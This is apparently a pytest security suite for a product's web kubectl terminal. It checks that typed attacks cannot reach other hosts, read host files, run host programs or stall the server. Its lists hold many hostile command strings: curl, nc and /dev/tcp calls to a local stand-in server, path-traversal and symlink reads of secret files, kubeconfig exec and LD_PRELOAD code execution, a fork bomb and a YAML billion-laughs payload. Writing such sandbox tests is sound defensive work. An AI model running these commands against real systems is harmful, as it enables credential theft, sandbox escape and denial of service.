"""Nothing typed in a terminal of the running product, with the real kubectl behind it, reads a host file, reaches another
address, runs a program or holds the worker up."""

from __future__ import annotations

import asyncio
import json
import threading
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import httpx
import pytest
from httpx_ws import AsyncWebSocketSession, aconnect_ws

from tests.playground.processes import Playground

pytestmark = pytest.mark.slow
SECRET = "the-hosts-own-words"
PROMPT = "# "


class Elsewhere:
    """A server on this host that is no cluster: whoever reaches it has broken out."""

    def __init__(self) -> None:
        self.visits: list[str] = []
        visits = self.visits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                visits.append(self.path)
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b"apiVersion: v1\nkind: ConfigMap\nmetadata: {name: stolen}\n")

            do_POST = do_PUT = do_CONNECT = do_HEAD = do_GET

            def log_message(self, *given: object) -> None:
                """Keep the test's output for the test."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_port
        self._thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self._thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self._thread.join()


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    server = Elsewhere()
    yield server
    server.close()


@pytest.fixture(scope="module")
def loot(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A directory of the host with something worth reading, and a kustomization that would read it."""
    place = tmp_path_factory.mktemp("host")
    (place / "secret").write_text(f"{SECRET}\n")
    (place / "secret.yaml").write_text(f"apiVersion: v1\nkind: ConfigMap\nmetadata: {{name: stolen}}\ndata: {{a: {SECRET}}}\n")
    (place / "kustomization.yaml").write_text("resources: [secret.yaml]\n")
    (place / "config").write_text(json.dumps({"apiVersion": "v1", "kind": "Config", "current-context": SECRET}))
    return place


class Attacker:
    def __init__(self, socket: AsyncWebSocketSession) -> None:
        self._socket, self.seen = socket, ""

    async def type(self, data: str) -> None:
        await self._socket.send_text(json.dumps({"type": "input", "data": data}))

    async def until_prompt(self) -> str:
        begin = len(self.seen)
        async with asyncio.timeout(120):
            while not self.seen[begin:].endswith(PROMPT) or "\n" not in self.seen[begin:]:
                self.seen += json.loads(await self._socket.receive_text()).get("data", "")
        return self.seen[begin:]

    async def run(self, line: str) -> str:
        await self.type(line.replace("\n", "\r") + "\r")
        return await self.until_prompt()


@asynccontextmanager
async def attacking(product: Playground) -> AsyncIterator[Attacker]:
    """Somebody at a new terminal of the cluster demo."""
    url = f"{product.url.replace('http', 'ws')}/ws/clusters/demo/terminal/"
    async with (
        httpx.AsyncClient() as client,
        aconnect_ws(url, client, headers={"Origin": product.url}) as socket,
    ):
        attacker = Attacker(socket)
        await attacker.type("echo ready\r")
        await attacker.until_prompt()
        yield attacker
        await attacker.type("exit\r")


OUTWARD = [
    "kubectl apply -f http://127.0.0.1:{port}/x.yaml",
    "kubectl apply -f HTTP://127.0.0.1:{port}/x.yaml",
    "kubectl create --filename=http://localhost:{port}/x.yaml",
    "kubectl apply -k http://127.0.0.1:{port}/repo",
    "kubectl apply -k git::http://127.0.0.1:{port}/repo",
    "kubectl get pods --server=http://127.0.0.1:{port}",
    "kubectl get pods -s http://127.0.0.1:{port}",
    "kubectl --server http://127.0.0.1:{port} get pods",
    "kubectl get pods -As=http://127.0.0.1:{port}",
    "kubectl get --raw http://127.0.0.1:{port}/x",
    "HTTP_PROXY=http://127.0.0.1:{port} HTTPS_PROXY=http://127.0.0.1:{port} ALL_PROXY=http://127.0.0.1:{port} NO_PROXY= kubectl get pods",
    "export http_proxy=http://127.0.0.1:{port}; kubectl get nodes; unset http_proxy",
    "kubectl config set-cluster kubernetes --server=http://127.0.0.1:{port} && kubectl get pods",
    "mkdir -p /root/k; printf 'resources: [\"http://127.0.0.1:{port}/x.yaml\"]' > /root/k/kustomization.yaml; kubectl apply -k /root/k",
    "printf 'resources: [\"http:\\\\x2f\\\\x2f127.0.0.1:{port}/x.yaml\"]' > /root/k/kustomization.yaml; kubectl apply -k /root/k",
    "curl -s http://127.0.0.1:{port}/",
    "curl -s http://localhost:{port}/ --resolve localhost:{port}:127.0.0.1",
    "wget -qO- http://127.0.0.1:{port}/",
    "cat < /dev/tcp/127.0.0.1/{port}",
    "nc 127.0.0.1 {port}",
    "etcdctl --endpoints=http://127.0.0.1:{port} get /x",
    "kubectl run x --image=nginx --overrides=http://127.0.0.1:{port}/x",
    "kubectl proxy --port={port}",
    "kubectl port-forward -n kube-system deployment/coredns {port}:53",
    "openssl s_client -connect 127.0.0.1:{port}",
]
INWARD = [
    "cat {loot}/secret",
    "cat ../../../../../../../..{loot}/secret",
    "ln -s {loot}/secret /root/link; cat /root/link; kubectl create configmap a --from-file=/root/link -o yaml --dry-run=client",
    "kubectl create configmap a --from-file={loot}/secret -o yaml --dry-run=client",
    "kubectl create configmap a --from-file=../../../../../../../../..{loot}/secret -o yaml --dry-run=client",
    "kubectl create configmap a --from-env-file={loot}/secret -o yaml --dry-run=client",
    "kubectl create configmap a --from-file=k={loot}/secret -o yaml --dry-run=client",
    "kubectl apply -f {loot}/secret.yaml",
    "kubectl apply -f file://{loot}/secret.yaml",
    "kubectl apply -k {loot}",
    "mkdir -p /root/c; printf 'resources: [{loot}]' > /root/c/kustomization.yaml; kubectl apply -k /root/c",
    "printf 'resources: [../../../../../../../../../..{loot}]' > /root/c/kustomization.yaml; kubectl apply -k /root/c",
    "printf 'configMapGenerator: [{{name: a, files: [{loot}/secret]}}]' > /root/c/kustomization.yaml; kubectl apply -k /root/c",
    "printf 'configMapGenerator: [{{name: a, files: [x=../../../../../../../../../..{loot}/secret]}}]' > /root/c/kustomization.yaml; kubectl apply -k /root/c",
    "kubectl get pods -o jsonpath-file={loot}/secret",
    "kubectl get pods -o go-template-file={loot}/secret",
    "kubectl get pods -o custom-columns-file={loot}/secret",
    "kubectl get pods -o=templatefile={loot}/secret",
    "kubectl patch node node-1 --patch-file {loot}/secret",
    "kubectl --kubeconfig={loot}/config config view",
    "kubectl config view --kubeconfig {loot}/config",
    "KUBECONFIG={loot}/config kubectl config current-context",
    "kubectl get pods --token-file={loot}/secret",
    "kubectl get pods --certificate-authority={loot}/secret",
    "kubectl config set-cluster x --certificate-authority={loot}/secret --embed-certs=true; kubectl config view --raw",
    "kubectl config set-credentials x --client-key={loot}/secret --embed-certs=true; kubectl config view --raw",
    "kubectl get pods --cache-dir={loot}",
    "kubectl get pods --kuberc={loot}/config",
    "kubectl get pods --profile=cpu --profile-output={loot}/out",
    "kubectl cp {loot}/secret kube-system/etcd-control-plane:/tmp/x",
    "kubectl create secret tls x --cert={loot}/secret --key={loot}/secret",
    "kubectl create token default --bound-object-kind=Secret --audience=@{loot}/secret",
    "vi {loot}/secret",
    "scp {loot}/secret node-1:/root/x; ssh node-1\ncat /root/x; exit",
    "openssl x509 -in {loot}/secret",
    "etcdctl snapshot status {loot}/secret",
    "curl -s file://{loot}/secret; curl -s -d @{loot}/secret http://10.96.0.1/",
    "cat /proc/self/environ /proc/1/environ; env",
    "source {loot}/secret; . {loot}/secret; bash {loot}/secret",
    "find / -name secret -exec cat {{}} \\;",
]
PROGRAMS = [
    "LD_PRELOAD={loot}/secret kubectl get nodes",
    "KUBECTL_EXTERNAL_DIFF='touch {loot}/ran' kubectl diff -f /dev/null",
    "KUBE_EDITOR='touch {loot}/ran' EDITOR='touch {loot}/ran' kubectl edit node node-1",
    "PATH={loot}:$PATH GODEBUG=execerrdot=0 kubectl plugin list",
    "kubectl config set-credentials kubernetes-admin --exec-api-version=client.authentication.k8s.io/v1 --exec-command=touch --exec-arg={loot}/ran && kubectl get nodes",
    "cat > /root/.kube/config <<EOF\n{{apiVersion: v1, kind: Config, current-context: a, contexts: [{{name: a, context: {{cluster: a, user: a}}}}], clusters: [{{name: a, cluster: {{server: 'https://172.18.0.2:6443', insecure-skip-tls-verify: true}}}}], users: [{{name: a, user: {{exec: {{apiVersion: client.authentication.k8s.io/v1, command: touch, args: [{loot}/ran], interactiveMode: Never}}}}}}]}}\nEOF",
    "kubectl get nodes",
    "printf 'generators: [x.yaml]' > /root/c/kustomization.yaml; kubectl apply -k /root/c --enable-alpha-plugins",
    "printf 'helmCharts: [{{name: x}}]' > /root/c/kustomization.yaml; kubectl apply -k /root/c --enable-helm --helm-command=touch",
]
BOMBS = [
    ":(){ :|:& };:",
    "while true; do echo endless; done",
    "yes | tr y n",
    "x=a; while true; do x=$x$x; done",
    "for i in 1 2 3 4 5 6 7 8; do while :; do :; done & done; wait",
    "jq -n 'reduce range(1000000000) as $i (0; . + $i)'",
    "echo {1..100000000}",
    "kubectl get pods -A -w",
    "printf 'a: &a [x,x,x,x,x,x,x,x,x]\\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\\nf: [*e,*e,*e,*e,*e,*e,*e,*e,*e]' | kubectl apply -f -",
    "head -c 100000000000 /dev/zero > /root/big",
]


async def test_no_other_address_is_reached(product: Playground, elsewhere: Elsewhere) -> None:
    async with attacking(product) as attacker:
        for line in OUTWARD:
            await attacker.run(line.format(port=elsewhere.port))
            assert elsewhere.visits == [], line
        await attacker.run("kubectl config set-cluster kubernetes --server=https://172.18.0.2:6443")


async def test_no_file_of_the_host_is_read(product: Playground, loot: Path) -> None:
    async with attacking(product) as attacker:
        for line in INWARD:
            said = await attacker.run(line.format(loot=loot))
            assert SECRET not in said, line
        assert "stolen" not in await attacker.run("kubectl get configmaps -A")


async def test_no_program_of_the_host_runs(product: Playground, loot: Path) -> None:
    async with attacking(product) as attacker:
        before = sorted(each.name for each in loot.iterdir())
        for line in PROGRAMS:
            await attacker.run(line.format(loot=loot))
        assert sorted(each.name for each in loot.iterdir()) == before
        await attacker.run("cp /etc/kubernetes/admin.conf /root/.kube/config")


async def test_kustomizations_of_the_machine_may_stand_on_each_other(product: Playground) -> None:
    async with attacking(product) as attacker:
        await attacker.run("mkdir -p /root/app/base /root/app/dev")
        await attacker.run("kubectl create configmap plain --dry-run=client -o yaml > /root/app/base/cm.yaml")
        await attacker.run("printf 'resources: [cm.yaml]' > /root/app/base/kustomization.yaml")
        await attacker.run("printf 'resources: [../base]\\nnamePrefix: dev-' > /root/app/dev/kustomization.yaml")
        assert "dev-plain" in await attacker.run("kubectl apply -k /root/app/dev")


@pytest.mark.parametrize("line", BOMBS)
async def test_bombs_hold_nobody_up(product: Playground, line: str) -> None:
    async with attacking(product) as attacker:
        await attacker.type(line + "\r")
        async with httpx.AsyncClient(base_url=product.url, timeout=30) as other:
            for _ in range(5):
                assert (await other.get("/api/v1/clusters/demo/")).status_code == 200
        await attacker.type("\x03")
        await attacker.type("echo ali''ve\r")
        while "\nalive" not in attacker.seen:
            await attacker.until_prompt()
